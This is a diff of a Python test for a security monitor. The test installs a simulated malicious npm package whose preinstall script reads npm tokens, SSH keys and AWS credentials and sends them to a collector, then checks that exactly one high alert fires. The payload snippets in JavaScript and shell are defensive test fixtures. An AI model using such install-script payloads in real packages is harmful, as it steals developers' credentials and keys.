@@ -1,14 +1,15 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""A supply-chain theft, for real: npm installs a package from a registry, and the package's install script reads
-the user's tokens and keys and posts them. One alert, with everything in it; the honest package is silent, though
-npm itself used the token and the honest script the network."""
+"""A supply-chain theft, for real: npm installs a package from a registry, and the install script of the package reads
+the user's tokens and keys and posts them. It raises one alert, which names all of them. The honest package raises none,
+though npm used the token and the honest script the network."""
 
 import json
 import os
+import re
 import sys
 
-sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../lib"))
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../benign"))
 
 import harness
@@ -25,7 +26,7 @@ NPM_TIMEOUT = 120
 
 SECRETS = {".npmrc": "package-registries", ".ssh/id_ed25519": "ssh-private-keys", ".aws/credentials": "cloud-aws"}
 
-# Five times, as such scripts do when they get no answer.
+# Five attempts, as such scripts make when they get no answer.
 STEAL = """
 const fs = require("fs"), net = require("net"), home = process.env.HOME;
 const loot = %s.map(name => fs.readFileSync(home + "/" + name)).join("\\n");
@@ -36,7 +37,7 @@ let tries = 5;
 })();
 """
 
-# By a process for each file and one more for the network.
+# With a process for each file, and another one for the network.
 STEAL_BY_SHELL = """
 { cat ~/.npmrc; cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; } >loot
 for name in .npmrc .ssh/id_ed25519 .aws/credentials; do while read -r line; do :; done <~/$name; done
@@ -60,7 +61,7 @@ class Play:
         return self.s.world.home_of(user)
 
     def secrets(self, user):
-        """What is in their files, which says that it arrived."""
+        """Writes the secrets, and returns their texts, by which they are recognised at the sink."""
         texts = {name: self.s.home.secret().decode() for name in SECRETS}
         texts[".npmrc"] = self.registry.npmrc()
         for name, text in texts.items():
@@ -75,7 +76,7 @@ class Play:
                              "--foreground-scripts", "--prefix", f"{self.home(user)}/application", package],
                             user, timeout=NPM_TIMEOUT, needs="node")
         require_equal(result.returncode, 0, f"npm install {package}\n{result.stdout}{result.stderr}")
-        # It is answered to who shows the token only.
+        # The registry only answers requests with the token.
         require(f"/{package}" in self.registry.asked, f"npm did not use the token: {self.registry.asked}")
 
     def honest(self, user):
@@ -90,10 +91,10 @@ class Play:
         before, arrived = len(self.s.bw.alerts), len(self.s.net.sink.arrived)
         self.install(user, package)
         self.s.bw.prove_delivered(self.s.net, self.s.home)
-        # An alert that is told again with the number of its repetitions is the same one.
+        # An alert is written again, with the same id, when its repeats are known.
         alerts = list({a["id"]: a for a in self.s.alerts_since(before)}.values())
-        told = "\n".join(f"{a['summary']} {a['process']} {a['destination']}" for a in alerts)
-        require_equal(len(alerts), 1, f"alerts\n{told}\n")
+        details = "\n".join(f"{a['summary']} {a['process']} {a['destination']}" for a in alerts)
+        require_equal(len(alerts), 1, f"alerts\n{details}\n")
         self.check(alerts[0], user)
 
         stolen = b"".join(entry[3] for entry in self.s.net.sink.arrived[arrived:])
@@ -102,21 +103,21 @@ class Play:
         return alerts[0]
 
     def check(self, alert, user):
-        told = f"\n{json.dumps(alert)}"
-        require_equal(alert["severity"], "high", f"severity{told}")
-        require(alert["score"] >= 70, f"score {alert['score']}{told}")
+        details = f"\n{json.dumps(alert)}"
+        require_equal(alert["severity"], "high", f"severity{details}")
+        require(alert["score"] >= 70, f"score {alert['score']}{details}")
         require_equal((alert["destination"]["address"], alert["destination"]["port"]), (COLLECTOR, 443),
-                      f"destination{told}")
+                      f"destination{details}")
         # npm calls itself "npm install …"; its executable is node.
         npm = [a for a in alert["lineage"] if a["exe"].endswith("/node") and a["comm"].startswith("npm")]
-        require_equal(len(npm), 1, f"npm in the lineage{told}")
+        require_equal(len(npm), 1, f"npm in the lineage{details}")
         for name, wanted in SECRETS.items():
             path = f"{self.home(user)}/{name}"
             classes = [f["class"] for f in alert["files"] if f["path"] == harness.as_text(path.encode())]
-            require(wanted in str(classes), f"~/{name} is told as {classes}{told}")
-        reasons = " ".join(str(reason) for reason in alert["reasons"])
-        for word in ("install scripts", "different classes"):
-            require(word in reasons, f"no reason says \"{word}\": {reasons}")
+            require(wanted in str(classes), f"~/{name} is of {classes}{details}")
+        reasons = "\n".join(reason["text"] for reason in alert["reasons"])
+        for text in ("install scripts", r"^accessed sensitive files of \d+ classes$"):
+            require(re.search(text, reasons, re.MULTILINE), f"no reason says \"{text}\": {reasons}")
 
 
 def main():
@@ -131,10 +132,10 @@ def main():
                          scripts={"preinstall": "sh steal.sh"})
         play = Play(s, registry)
         for user in USERS:
-            t.case(f"{user}: an honest package is silent", play.honest, user)
-            t.case(f"{user}: a package that steals is one high alert", play.theft, user, "evil")
-            t.case(f"{user}: one that steals by the shell, too", play.theft, user, "evilshell")
-        t.case(f"the token {TOKEN} was npm's to use: no loss", stage.whole, s.bw)
+            t.case(f"{user}: an honest package raises no alert", play.honest, user)
+            t.case(f"{user}: a package that steals raises one high alert", play.theft, user, "evil")
+            t.case(f"{user}: a package that steals with the shell raises one, too", play.theft, user, "evilshell")
+        t.case(f"the token {TOKEN} is used by npm: no loss", stage.no_loss, s.bw)
     t.done()
 
 
